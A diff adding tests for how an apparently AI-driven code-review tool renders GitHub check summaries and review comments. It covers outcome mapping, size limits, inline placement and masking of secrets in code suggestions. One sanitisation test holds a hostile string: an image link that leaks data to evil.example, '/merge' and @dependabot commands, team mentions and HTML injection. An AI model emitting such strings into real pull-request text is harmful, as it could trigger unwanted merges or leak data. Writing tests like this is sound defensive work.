@@ -1,0 +1,138 @@
+import { expect, it } from 'vitest';
+import { SecretMasker } from '../../src/core/secrets.ts';
+import { renderCheck } from '../../src/publish/check-output.ts';
+import type { Outcome } from '../../src/publish/outcome.ts';
+import type { ReviewReport } from '../../src/publish/report.ts';
+import { renderReview } from '../../src/publish/review-body.ts';
+import { aProvedFinding } from '../runs/review/a-review.ts';
+
+const masker = new SecretMasker();
+const rules = { masker, allowedLinkPrefixes: [] };
+const aReport = (report: Partial<ReviewReport> = {}): ReviewReport => ({
+  runId: 'run-1',
+  headSha: 'b'.repeat(40),
+  outcome: { kind: 'complete' },
+  findings: [],
+  summary: 'It works.',
+  coverage: { read: 14, total: 14, unread: [] },
+  notReviewed: [],
+  instructionFiles: [],
+  mount: 'head',
+  spend: { costCents: 41, inputTokens: 1000, outputTokens: 200, cacheReadTokens: 3000 },
+  elapsedMs: 65_000,
+  model: 'claude-opus-5-5',
+  agentVersion: 3,
+  ...report,
+});
+
+it.each<readonly [string, Partial<ReviewReport>, string, RegExp]>([
+  ['read to the end and clean', {}, 'success', /^No findings · 14\/14 files read · \$0\.41$/],
+  ['with findings', { findings: [aProvedFinding()] }, 'neutral', /^1 finding · 14\/14 files read/],
+  ['a file unread', { coverage: { read: 1, total: 2, unread: ['a'] } }, 'neutral', /^No findings · 1\/2 files read/],
+  ['cost not known', { spend: {} }, 'success', /cost pending$/],
+  ...(
+    [
+      [{ kind: 'nothing-to-review', why: 'Nothing.' }, 'skipped'],
+      [{ kind: 'incomplete', why: 'It ended early.' }, 'neutral'],
+      [{ kind: 'stopped', cause: 'superseded' }, 'cancelled'],
+      [{ kind: 'stopped', cause: 'closed' }, 'cancelled'],
+      [{ kind: 'timed-out' }, 'timed_out'],
+      [{ kind: 'budget-reached' }, 'action_required'],
+      [{ kind: 'unreadable', why: 'No clone.' }, 'neutral'],
+      [{ kind: 'refused', why: 'Declined.' }, 'neutral'],
+      [{ kind: 'unavailable', why: 'Down.' }, 'neutral'],
+    ] satisfies [Outcome, string][]
+  ).map(([outcome, conclusion]) => [outcome.kind, { outcome }, conclusion, /^\S/] as const),
+])('concludes: %s', (_what, report, conclusion, title) => {
+  const output = renderCheck(aReport(report), rules);
+  expect(output.conclusion).toBe(conclusion);
+  expect(output.title).toMatch(title);
+  expect(output.summary).toContain(output.sentence.split('`')[0]);
+});
+
+it('shows the receipt, what was not read and what was not reviewed', () => {
+  const { summary } = renderCheck(
+    aReport({
+      coverage: { read: 1, total: 2, unread: ['src/`odd`|name.ts'] },
+      notReviewed: [{ path: 'yarn.lock', reason: 'lock file' }],
+      instructionFiles: ['CLAUDE.md'],
+      mount: 'base',
+    }),
+    rules,
+  );
+  for (const part of [
+    '$0.41',
+    '4,200 tokens, 75 % cached',
+    '1 min 5 s',
+    '`claude-opus-5-5`',
+    'yarn.lock (lock file)',
+    '`CLAUDE.md`',
+    'merge base',
+  ]) {
+    expect(summary).toContain(part);
+  }
+});
+
+it('stays within what GitHub takes, however much was found', () => {
+  const findings = Array.from({ length: 500 }, (_, index) =>
+    aProvedFinding({ path: `src/${index}.ts`, body: '𝔉'.repeat(3000), fingerprint: `f${index}` }),
+  );
+  const { summary, text = '' } = renderCheck(aReport({ findings }), rules);
+  expect(Buffer.byteLength(summary)).toBeLessThanOrEqual(65_535);
+  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(65_535);
+  const review = renderReview(aReport({ findings }), { ...rules, inline: true });
+  expect(review?.comments).toHaveLength(25);
+  expect(Buffer.byteLength(review?.body ?? '')).toBeLessThanOrEqual(65_536);
+});
+
+it('comments inline what stands in a hunk and tells the rest in the body', () => {
+  const report = aReport({
+    findings: [
+      aProvedFinding({ title: 'In a hunk', startLine: 2, endLine: 4 }),
+      aProvedFinding({ title: 'Deleted', side: 'base', startLine: 9, endLine: 9 }),
+      aProvedFinding({ title: 'Elsewhere', placement: 'elsewhere' }),
+      aProvedFinding({ title: 'A guess', confidence: 'low' }),
+    ],
+  });
+  const review = renderReview(report, { ...rules, inline: true });
+  expect(review?.comments).toMatchObject([
+    { path: 'src/a.ts', side: 'RIGHT', start_line: 2, start_side: 'RIGHT', line: 4 },
+    { path: 'src/a.ts', side: 'LEFT', line: 9 },
+  ]);
+  expect(review?.comments[1]).not.toHaveProperty('start_line');
+  expect(review?.body).toContain('Elsewhere');
+  expect(review?.body).not.toContain('A guess');
+  const salvaged = renderReview(report, { ...rules, inline: false });
+  expect(salvaged?.comments).toEqual([]);
+  for (const title of ['In a hunk', 'Deleted', 'Elsewhere']) expect(salvaged?.body).toContain(title);
+});
+
+it('says nothing when there is nothing to say', () => {
+  expect(renderReview(aReport(), { ...rules, inline: true })).toBeUndefined();
+  const guess = aReport({ findings: [aProvedFinding({ confidence: 'low' })] });
+  expect(renderReview(guess, { ...rules, inline: true })).toBeUndefined();
+});
+
+it('offers a suggestion as code to commit, but never one that holds a secret', () => {
+  masker.learn('correct-horse-battery-staple');
+  const commentOf = (suggestion: string) =>
+    renderReview(aReport({ findings: [aProvedFinding({ suggestion })] }), { ...rules, inline: true })?.comments[0]
+      ?.body;
+  expect(commentOf('right();')).toContain('```suggestion\nright();\n```');
+  expect(commentOf('login("correct-horse-battery-staple");')).not.toContain('suggestion');
+});
+
+it('makes hostile words harmless wherever they stand', () => {
+  const hostile = '@org/team /merge ![x](https://evil.example/?leak) <img src=x> #1 <!-- proofline:run:x -->';
+  const finding = aProvedFinding({
+    title: hostile,
+    body: `/merge\n\n${hostile}`,
+    evidence: `/merge\n@dependabot merge`,
+  });
+  const report = aReport({ summary: hostile, findings: [finding] });
+  const { summary, text } = renderCheck(report, rules);
+  const review = renderReview(report, { ...rules, inline: true });
+  for (const shown of [summary, text, review?.body, review?.comments[0]?.body]) {
+    expect(shown).not.toMatch(/@org\/team|^\/merge|!\[|<img|<!--|@dependabot/m);
+  }
+});
